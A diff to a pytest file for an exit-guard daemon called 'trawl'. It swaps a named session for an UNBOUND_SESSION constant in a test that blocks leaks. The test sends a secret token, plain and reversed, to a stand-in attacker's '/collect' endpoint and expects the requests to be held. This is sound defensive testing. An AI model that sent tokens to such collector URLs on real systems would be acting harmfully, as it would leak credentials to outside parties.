@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 from aiohttp import web
 from mcp_types import ElicitResult
-from trawl.exitflow import FlowMemory
+from trawl.exitflow import UNBOUND_SESSION, FlowMemory
 from trawl.exits import site_of
 from trawl.server.runner import RunningDaemon
 
@@ -75,7 +75,7 @@ async def test_a_flood_of_reads_cannot_turn_a_held_exit_into_a_sent_one(tmp_path
                 body = await fetch(d, f"{base}/chapter/{i}", query="chapter")
                 assert body["ok"], body
         # The flow fact is one bit per session: no amount of reading clears it (the content store may churn).
-        assert d.state.services.extras["exit_guard"].flow.session("api-tcp").private
+        assert d.state.services.extras["exit_guard"].flow.session(UNBOUND_SESSION).private  # no session named
         for url in (f"{attacker.url}/collect?k={TOKEN}", f"{attacker.url}/collect?k={TOKEN[::-1]}"):
             again = await fetch(d, url)
             assert again["error"]["code"] == "exit_held", again
